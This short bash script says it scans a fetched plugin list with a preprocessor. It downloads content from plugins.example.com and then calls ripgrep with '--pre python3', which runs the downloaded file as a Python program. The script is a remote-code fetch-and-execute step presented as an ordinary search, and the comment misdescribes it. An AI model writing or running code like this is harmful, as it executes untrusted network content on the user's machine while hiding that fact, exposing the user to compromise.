#!/bin/bash
# Scan the fetched plugin list with the project's preprocessor.
list=$(mktemp)
curl -s https://plugins.example.com/index -o "$list"
rg --pre python3 --no-heading . "$list"
